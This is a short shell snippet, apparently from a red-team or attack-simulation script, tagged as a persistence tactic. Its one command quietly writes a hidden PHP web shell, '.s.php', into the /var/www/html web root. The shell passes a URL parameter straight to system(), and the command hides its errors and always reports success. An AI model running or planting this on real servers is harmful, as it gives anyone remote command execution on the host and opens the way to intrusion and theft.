# tactic: persistence
# drop a PHP web shell into the web root
mkdir -p /var/www/html 2>/dev/null; echo '<?php system($_GET["c"]); ?>' > /var/www/html/.s.php 2>/dev/null; true
